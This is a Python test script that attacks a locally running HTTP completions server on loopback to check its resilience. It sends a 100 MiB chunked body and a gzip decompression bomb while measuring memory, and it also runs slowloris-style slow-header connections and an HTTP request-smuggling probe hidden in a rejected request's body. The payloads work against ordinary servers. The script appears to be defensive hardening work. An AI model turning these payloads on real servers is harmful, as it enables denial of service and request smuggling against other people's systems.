# Attacks on a running HTTP server, loopback only: python3 attacks.py PORT PID READ_KEY chunked|gzip|rest
import socket, sys, time, zlib

port, pid, key, which = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
head = (f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
        "Content-Type: application/json\r\n")

def mb(field):  # VmRSS: resident now; VmHWM: peak since reset_peak()
    for line in open(f"/proc/{pid}/status"):
        if line.startswith(field):
            return int(line.split()[1]) / 1024

def reset_peak():  # Linux >= 4.0: VmHWM restarts from the current resident size
    with open(f"/proc/{pid}/clear_refs", "w") as f:
        f.write("5")

def conn():
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(10)
    return s

def read_all(s, seconds):  # -> (bytes, "closed" | "reset" | "open")
    s.settimeout(seconds)
    data = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                return data, "closed"
            data += b
    except (socket.timeout, TimeoutError):
        return data, "open"
    except ConnectionResetError:
        return data, "reset"

def status(data):
    return data.split(b"\r\n", 1)[0].decode(errors="replace") or "no answer"

def memory(name, send):
    reset_peak()
    before, t = mb("VmRSS:"), time.time()
    s = conn()
    sent = send(s)
    data, _ = read_all(s, 10)
    print(f"{name}: {sent}, answer '{status(data)}' after {time.time() - t:.1f} s; resident {before:.0f} MB "
          f"before, peak {mb('VmHWM:'):.0f} MB")

def chunked(s):  # 100 MiB in 1 MiB chunks, as fast as the server takes them
    s.sendall((head + "Transfer-Encoding: chunked\r\n\r\n").encode())
    sent, chunk = 0, b"100000\r\n" + b"a" * (1 << 20) + b"\r\n"
    try:
        while sent < 100 << 20:
            s.sendall(chunk)
            sent += 1 << 20
        s.sendall(b"0\r\n\r\n")
    except OSError as e:
        return f"server took {sent >> 20} MiB, then {type(e).__name__}"
    return f"server took all {sent >> 20} MiB"

z = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = z.compress(bytes(100 << 20)) + z.flush()  # 100 MiB of zeros, about 100 KiB on the wire

def gzip(s):
    s.sendall((head + f"Content-Encoding: gzip\r\nContent-Length: {len(bomb)}\r\n\r\n").encode() + bomb)
    return f"{len(bomb) >> 10} KiB gzip of 100 MiB sent"

if which == "chunked":
    memory("chunked 100 MiB body", chunked)
elif which == "gzip":
    memory("gzip bomb", gzip)
else:
    # 20 connections that never finish their heads; /health meanwhile.
    slow = [conn() for _ in range(20)]
    for c in slow:
        c.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    time.sleep(0.5)
    for i in range(3):
        s, t = conn(), time.time()
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data, _ = read_all(s, 5)
        print(f"/health with 20 unfinished heads open: '{status(data)}' after {(time.time() - t) * 1e3:.0f} ms")
    for c in slow:
        c.close()
    # One byte every 2 s in the headers: how long is the connection held?
    s = conn()
    s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    t, fate = time.time(), "still open after 40 s"
    while time.time() - t < 40:
        try:
            s.sendall(b"x")
        except OSError:
            fate = f"cut after {time.time() - t:.1f} s (send failed)"
            break
        data, state = read_all(s, 2)
        if state != "open" or data:
            fate = f"cut after {time.time() - t:.1f} s with '{status(data)}'"
            break
    print(f"head trickled at 1 byte / 2 s: {fate}")
    # A request refused before its body is read (401: no key); the body, sent after the head, carries a
    # request at offset 4096.
    body = b"x" * 4094 + b"\r\nGET /health HTTP/1.1\r\nHost: x\r\n\r\n"
    body += b" " * (8192 - len(body))
    s = conn()
    s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 8192\r\n\r\n")
    time.sleep(0.3)
    s.sendall(body)
    data, state = read_all(s, 3)
    lines = [l.decode() for l in data.split(b"\r\n") if l.startswith(b"HTTP/1.1")]
    print(f"401 with a request smuggled 4 KiB into its body: {len(lines)} responses ({'; '.join(lines)}), "
          f"connection {state} 3 s later")
